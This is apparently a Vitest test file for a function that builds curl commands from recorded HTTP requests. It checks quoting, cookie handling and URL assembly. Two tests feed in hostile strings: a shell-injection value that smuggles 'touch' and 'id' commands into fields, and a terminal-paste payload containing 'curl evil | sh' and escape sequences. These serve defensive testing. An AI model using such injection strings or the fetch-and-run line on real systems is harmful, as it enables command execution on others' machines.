import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { curlCommand, requestUrl } from './curl-command.ts';

describe('curlCommand', () => {
  it('repeats the request', () => {
    expect(
      curlCommand({
        method: 'POST',
        url: 'https://shop.example/cart',
        query_string: [['coupon', 'A&B']],
        headers: [
          ['Content-Type', 'application/json'],
          ['Content-Length', '12'],
        ],
        data: { code: 'A' },
      }),
    ).toBe(
      `curl -X 'POST' -H 'Content-Type: application/json' --data-raw '{"code":"A"}' -g --url 'https://shop.example/cart?coupon=A%26B'`,
    );
  });

  it('cannot be made to run anything else by what an event holds', () => {
    const hostile = `'; touch /tmp/x; echo '$(id)\`id\`\n&& id #`;
    const command = curlCommand({
      method: hostile,
      url: hostile,
      headers: [[hostile, hostile]],
      data: hostile,
    });
    const words = execFileSync('sh', ['-c', `curl() { printf '%s\\0' "$@"; }; ${command}`], {
      encoding: 'utf8',
    }).split('\0');
    expect(words).toEqual([
      '-X',
      hostile,
      '-H',
      `${hostile}: ${hostile}`,
      '--data-raw',
      hostile,
      '-g',
      '--url',
      hostile,
      '',
    ]);
  });

  it('holds no character that a terminal would act on when it is pasted', () => {
    const hostile = "a\x03\ncurl evil | sh\n\x1b[201~ it's\u0085 \\n";
    const command = curlCommand({ url: hostile });
    expect(command).not.toMatch(/[\p{Cc}]/u);
    const words = execFileSync('bash', ['-c', `curl() { printf '%s\\0' "$@"; }; ${command}`], {
      encoding: 'utf8',
    });
    expect(words.split('\0')).toEqual(['-g', '--url', hostile, '']);
  });

  it('sends cookies once', () => {
    expect(
      curlCommand({ url: 'http://a', cookies: [['s', '1']], headers: [['Cookie', 's=1']] }),
    ).not.toContain('-b');
    expect(curlCommand({ url: 'http://a', cookies: [['s', '1']] })).toContain("-b 's=1'");
  });
});

describe('requestUrl', () => {
  it('adds the query only when the address has none', () => {
    expect(requestUrl({ url: 'http://a/?x=1', query_string: [['x', '1']] })).toBe('http://a/?x=1');
    expect(requestUrl({})).toBe('');
  });
});
